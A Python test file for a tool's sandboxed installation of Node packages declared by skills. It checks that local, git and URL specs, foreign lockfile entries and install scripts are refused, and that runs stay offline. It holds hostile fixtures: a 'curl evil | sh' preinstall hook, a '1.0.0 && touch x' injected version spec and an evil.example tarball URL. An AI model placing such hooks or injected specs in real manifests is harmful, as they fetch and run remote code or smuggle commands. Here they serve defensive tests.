"""Node packages a skill's script declares in a package.json: refused specs and
lockfile entries, and the install through `skillchat ask` from a registry on
127.0.0.1 serving a tarball `npm pack` made (tests/npm_helpers.py), with no
package script run and the node_modules found by `import` and `require()` offline."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from helpers import closed_port, skillchat, write_files
from npm_helpers import Registry, npm_registry, tinynode_tarballs
from openai_server import ScriptedServer
from test_envs import ask_run, demo_skill, envs_folder

from skillchat.errors import RefusedDeclaration
from skillchat.sandbox.envs.node import node_declaration

__all__ = ["npm_registry", "tinynode_tarballs"]  # the fixtures, used by name

MANIFEST = json.dumps({"type": "module", "dependencies": {"tinynode": "^1.0.0"}})
ESM = "import t from 'tinynode';\nconsole.log('answer', t.answer, import.meta.dirname);\n"
CJS = "console.log('answer', require('tinynode').answer);\n"


@pytest.mark.parametrize(
    ("spec", "why"),
    [
        ("file:../vendor/x", "a local folder or file"),
        ("link:../x", "a local folder or file"),
        ("workspace:*", "a local folder or file"),
        ("git+https://example.com/x.git", "version control or a URL"),
        ("github:user/repo", "version control or a URL"),
        ("user/repo", "version control or a URL"),
        ("https://example.com/x.tgz", "version control or a URL"),
        ("npm:other@1", "an alias installs another package"),
        ("1.0.0 && touch x", "not a version range"),
    ],
)
def test_a_spec_from_outside_the_registry_is_refused_by_key(
    tmp_path: Path, spec: str, why: str
) -> None:
    root = tmp_path / "demo"
    manifest = {"dependencies": {"ok": "^1", "bad": spec}}
    write_files(root, {"scripts/x.mjs": "", "scripts/package.json": json.dumps(manifest)})
    with pytest.raises(RefusedDeclaration) as caught:
        node_declaration("demo", root, root / "scripts" / "x.mjs")
    message = str(caught.value)
    assert message.startswith(f'/skills/demo/scripts/package.json: dependencies.bad: `"{spec}"`')
    assert why in message and "\n" not in message


@pytest.mark.parametrize(
    ("entry", "why"),
    [
        ({"resolved": "https://evil.example/x/-/x-1.0.0.tgz"}, "only packages from the"),
        ({"resolved": "git+ssh://git@github.com/u/x.git#abc"}, "only packages from the"),
        ({"link": True, "resolved": "../x"}, "linked to a local folder"),
    ],
)
def test_a_lockfile_entry_from_elsewhere_is_refused(
    tmp_path: Path, entry: dict[str, object], why: str
) -> None:
    root = tmp_path / "demo"
    lock = {"lockfileVersion": 3, "packages": {"": {}, "node_modules/x": entry}}
    write_files(
        root,
        {
            "package.json": json.dumps({"dependencies": {"x": "^1.0.0"}}),
            "package-lock.json": json.dumps(lock),
            "run.js": "",
        },
    )
    with pytest.raises(RefusedDeclaration) as caught:
        node_declaration("demo", root, root / "run.js")
    assert str(caught.value).startswith(
        '/skills/demo/package-lock.json: packages["node_modules/x"]'
    )
    assert why in str(caught.value)


def test_the_declaration_beside_the_script_wins_and_keeps_only_dependency_tables(
    tmp_path: Path,
) -> None:
    root = tmp_path / "demo"
    beside = {"scripts": {"preinstall": "curl evil | sh"}, "dependencies": {"a": "1.x"}}
    write_files(
        root,
        {
            "scripts/x.cjs": "",
            "scripts/package.json": json.dumps(beside),
            "package.json": json.dumps({"dependencies": {"b": "2"}}),
        },
    )
    found = node_declaration("demo", root, root / "scripts" / "x.cjs")
    assert found is not None and found.packages == ("a@1.x",)
    assert "preinstall" not in found.installed_manifest()
    at_root = node_declaration("demo", root, None)
    assert at_root is not None and at_root.packages == ("b@2",)


def test_a_package_json_installs_without_scripts_and_runs_offline(
    server: ScriptedServer, tmp_path: Path, npm_registry: Registry
) -> None:
    skills = demo_skill(
        tmp_path,
        {"scripts/package.json": MANIFEST, "scripts/show.mjs": ESM, "scripts/show.cjs": CJS},
    )
    done, result = ask_run(server, skills, "node /skills/demo/scripts/show.mjs", "--allow-install")
    assert result.get("stdout") == "answer 42 /skills/demo/scripts\n", result
    assert any(n.startswith("installed tinynode 1.1.0 in ") for n in result["notes"])
    assert "install: " in done.stderr  # npm's steps, one line each
    assert any(r.endswith(".tgz") for r in npm_registry.requests)
    (env,) = [p for p in envs_folder().iterdir() if (p / "skillchat-env.json").exists()]
    record = json.loads((env / "skillchat-env.json").read_text())
    assert record["kind"] == "node"
    assert [(p["name"], p["version"]) for p in record["installed"]] == [("tinynode", "1.1.0")]
    assert record["installed"][0]["integrity"].startswith("sha512-")
    assert not (env / "node_modules" / "tinynode" / "ran.txt").exists()  # no install script
    # require() finds it too; the same set is not installed again; the run is offline.
    offline = "; node -e \"require('http').get('http://1.1.1.1', () => 0)"
    offline += ".on('error', e => console.error(e.code))\""
    _, again = ask_run(server, skills, "node /skills/demo/scripts/show.cjs" + offline)
    assert again["stdout"] == "answer 42\n", again
    assert "ENETUNREACH" in again["stderr"]
    assert "notes" not in again


def test_a_lockfile_pins_what_is_installed_and_what_the_card_shows(
    server: ScriptedServer, tmp_path: Path, npm_registry: Registry
) -> None:
    from skillchat.sandbox.envs.resolve import resolve_node

    lock = {
        "lockfileVersion": 3,
        "packages": {
            "": {"dependencies": {"tinynode": "^1.0.0"}},
            "node_modules/tinynode": npm_registry.lock_entry("tinynode", "1.0.0"),
        },
    }
    files = {"package.json": MANIFEST, "package-lock.json": json.dumps(lock), "show.cjs": CJS}
    skills = demo_skill(tmp_path, files)
    found = node_declaration(
        "demo", skills / "demo", skills / "demo" / "show.cjs", npm_registry.url
    )
    assert found is not None
    assert [(p.name, p.version) for p in resolve_node(found).packages] == [("tinynode", "1.0.0")]
    _, result = ask_run(server, skills, "node /skills/demo/show.cjs", "--allow-install")
    assert result.get("stdout") == "answer 41\n", result  # 1.0.0, not the newest 1.1.0
    assert not any(r.endswith("1.1.0.tgz") for r in npm_registry.requests)


def test_ask_without_allow_install_names_the_node_packages(
    server: ScriptedServer, tmp_path: Path, npm_registry: Registry
) -> None:
    skills = demo_skill(tmp_path, {"package.json": MANIFEST, "show.mjs": ESM})
    _, result = ask_run(server, skills, "cd /skills/demo && node show.mjs")
    assert result["error_code"] == "NOT_ALLOWED"
    assert (
        "tinynode@^1.0.0 for skill demo (declared in /skills/demo/package.json)"
        in (result["error"])
    )
    assert not envs_folder().exists()
    assert npm_registry.requests == []


def test_a_missing_node_package_is_a_note(server: ScriptedServer, tmp_path: Path) -> None:
    """(The skill's requirements.txt is for its Python scripts: not asked for here.)"""
    skills = demo_skill(tmp_path, {"show.mjs": ESM, "requirements.txt": "tinypkg\n"})
    _, result = ask_run(server, skills, "node /skills/demo/show.mjs")
    (note,) = result["notes"]
    assert note.startswith("Node module `tinynode` is not installed: the skill does not declare")


def test_skills_deps_lists_and_installs_a_package_json(
    tmp_path: Path, npm_registry: Registry
) -> None:
    skills = demo_skill(tmp_path, {"scripts/package.json": MANIFEST, "scripts/show.mjs": ESM})
    base = ["skills", "deps", "--skills-dir", str(skills)]
    listed = skillchat(*base)
    assert listed.stdout == (
        "demo\ttinynode@^1.0.0\t/skills/demo/scripts/package.json\tnot installed\n"
    )
    installed = skillchat(*base, "--install", "--json")
    assert installed.returncode == 0, installed.stderr
    (row,) = json.loads(installed.stdout)
    assert row["kind"] == "node" and row["ready"]
    assert row["installed"][0]["name"] == "tinynode"
    (tmp_path / "none").mkdir()
    pruned = skillchat("skills", "deps", "--skills-dir", str(tmp_path / "none"), "--prune")
    assert pruned.returncode == 0 and "removed" in pruned.stderr
    assert "not installed" in skillchat(*base).stdout


def test_an_unreachable_registry_is_one_clear_line_and_nothing_is_made(
    server: ScriptedServer, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("npm_config_registry", f"http://127.0.0.1:{closed_port()}/")
    skills = demo_skill(tmp_path, {"package.json": MANIFEST, "show.mjs": ESM})
    _, result = ask_run(server, skills, "node /skills/demo/show.mjs", "--allow-install")
    assert result["error_code"] == "INSTALL_FAILED", result
    assert result["error"].startswith("installing tinynode@^1.0.0 failed: FetchError: request to")
    assert "reason: connect ECONNREFUSED" in result["error"]
    assert "requiredBy" not in result["error"] and "log of this run" not in result["error"]
    assert "\n" not in result["error"]
    assert [
        p.name for p in envs_folder().iterdir() if not p.name.endswith(("cache", "locks"))
    ] == []
